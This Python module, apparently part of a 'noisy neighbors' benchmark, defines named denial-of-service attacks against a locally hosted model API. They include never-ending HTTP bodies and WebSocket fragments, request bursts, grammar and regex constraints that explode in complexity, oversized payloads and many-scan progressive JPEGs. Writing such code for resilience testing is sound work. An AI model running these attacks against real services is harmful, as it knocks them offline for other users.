"""Attacks by name: each runs until its process is ended and sends as the owner of one API key, or without a key."""

from __future__ import annotations

import asyncio
import itertools
import json
import os
from collections.abc import Callable, Iterable
from contextlib import suppress

from bench.noisy_neighbors import payloads
from bench.noisy_neighbors.target import Attack, MeasuredTarget, post

LEAVE_AFTER_S = 3.0
MEGABYTE = 2**20


async def repeat(target: MeasuredTarget, bodies: Iterable[bytes], parallel: int = 1, **options: object) -> None:
    """Send `bodies`, `parallel` at a time, in sequence."""
    source = iter(bodies)

    async def worker() -> None:
        for body in source:
            await post(target, body, **options)  # type: ignore[arg-type]

    await asyncio.gather(*(worker() for _ in range(parallel)))


def same(make: Callable[[str], bytes], parallel: int = 1, **options: object) -> Attack:
    """Return an attack that sends the same body again and again."""

    async def attack(target: MeasuredTarget) -> None:
        await repeat(target, itertools.repeat(make(target.model)), parallel, **options)

    return attack


def numbered(make: Callable[[str, int], bytes], parallel: int = 1) -> Attack:
    """Return an attack that numbers the bodies, so that each body is new."""

    async def attack(target: MeasuredTarget) -> None:
        await repeat(target, (make(target.model, number) for number in itertools.count()), parallel)

    return attack


async def unfinished_bodies(target: MeasuredTarget, connections: int = 12, size: int = 50 * MEGABYTE) -> None:
    """Send bodies without a key that never end."""

    async def one() -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
        head = f"POST /v1/responses HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\nContent-Length: {size + 1}\r\n\r\n"
        writer.write(head.encode())
        with suppress(OSError):
            for _ in range(size // MEGABYTE):
                writer.write(bytes(MEGABYTE))
                await writer.drain()
            await reader.read()
        writer.close()

    while True:
        await asyncio.gather(*(one() for _ in range(connections)))
        await asyncio.sleep(1.0)


async def unfinished_messages(target: MeasuredTarget, connections: int = 16, size: int = 40 * MEGABYTE) -> None:
    """Send WebSocket messages whose last fragment never comes (RFC 6455 section 5.4)."""

    async def one() -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
        head = (
            f"GET /v1/responses HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\nAuthorization: Bearer {target.key}\r\n"
            "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        )
        writer.write(head.encode())
        with suppress(OSError):
            await reader.readuntil(b"\r\n\r\n")
            for number in range(size // MEGABYTE):
                opcode = 1 if number == 0 else 0
                writer.write(bytes((opcode, 0x80 | 127)) + MEGABYTE.to_bytes(8, "big") + bytes(4) + b" " * MEGABYTE)
                await writer.drain()
            await reader.read()
        writer.close()

    while True:
        await asyncio.gather(*(one() for _ in range(connections)), return_exceptions=True)
        await asyncio.sleep(1.0)


async def burst(target: MeasuredTarget, requests: int = 1000) -> None:
    """Ask for more responses at the same moment than the server makes at a time."""
    body = payloads.create(target.model)
    while True:
        await asyncio.gather(*(post(target, body) for _ in range(requests)))


async def progressive_jpegs(target: MeasuredTarget) -> None:
    """Upload pictures with thousands of scans and hang up after some seconds."""
    body = json.dumps({"items": [payloads.image_message(payloads.progressive_jpeg())]}).encode()
    await repeat(target, itertools.repeat(body), 10, path="/v1/conversations", limit_s=LEAVE_AFTER_S)


CHAT = "/v1/chat/completions"
MESSAGES = "/v1/messages"
FORMAT_ATTACKS: dict[str, Attack] = {
    "chat-messages-65000": same(
        lambda model: payloads.chat_completion(model, messages=payloads.messages(65_000)), 2, path=CHAT
    ),
    "chat-texts-65000": same(lambda model: payloads.chat_completion(model, messages=payloads.texts(65_000)), 2, path=CHAT),
    "chat-tools-65000": same(
        lambda model: payloads.chat_completion(model, tools=payloads.chat_functions(65_000)), 2, path=CHAT
    ),
    "messages-messages-65000": same(
        lambda model: payloads.message(model, messages=payloads.messages(65_000)), 2, path=MESSAGES
    ),
    "messages-blocks-65000": same(lambda model: payloads.message(model, messages=payloads.texts(65_000)), 2, path=MESSAGES),
    "messages-calls-30000": same(lambda model: payloads.message(model, messages=payloads.calls(30_000)), 2, path=MESSAGES),
    "messages-tools-65000": same(lambda model: payloads.message(model, tools=payloads.client_tools(65_000)), 2, path=MESSAGES),
}
ATTACKS: dict[str, Attack] = {
    "lark-doubling-terminals": same(lambda model: payloads.lark(model, payloads.doubling_terminals())),
    "lark-optionals": same(lambda model: payloads.lark(model, "start: " + '"a"? ' * 18)),
    "lark-alternatives": same(lambda model: payloads.lark(model, "start: " + '("a"|"b") ' * 17)),
    "regex-nested-repeats": same(lambda model: payloads.regex(model, "(((a{99}){99}){99}){99}")),
    "schema-long-enum": numbered(payloads.long_enum),
    "schema-medium-enum": numbered(lambda model, number: payloads.long_enum(model, number, 900, 40), 4),
    "schema-optional-properties": numbered(payloads.optional_properties),
    "progressive-jpegs": progressive_jpegs,
    "text-9-mb": same(lambda model: payloads.create(model, input="word " * 1_800_000), 6, limit_s=LEAVE_AFTER_S),
    "text-accents-10-mib": same(lambda model: payloads.create(model, input="é" * 5_242_880), 2),
    "text-random-9-mb": same(lambda model: payloads.create(model, input=os.urandom(4_500_000).hex()), 2),
    "messages-65000": same(lambda model: payloads.create(model, input=payloads.messages(65_000)), 2),
    "truncation-20000": same(lambda model: payloads.create(model, input=payloads.messages(20_000), truncation="auto"), 2),
    "tools-65000": same(lambda model: payloads.create(model, tools=payloads.functions(65_000)), 2),
    **FORMAT_ATTACKS,
    "unfinished-bodies": unfinished_bodies,
    "unfinished-messages": unfinished_messages,
    "burst-1000": burst,
    "short-responses": same(payloads.create, 64),
    "logprobs": same(lambda model: payloads.create(model, include=["message.output_text.logprobs"], top_logprobs=5), 2),
}
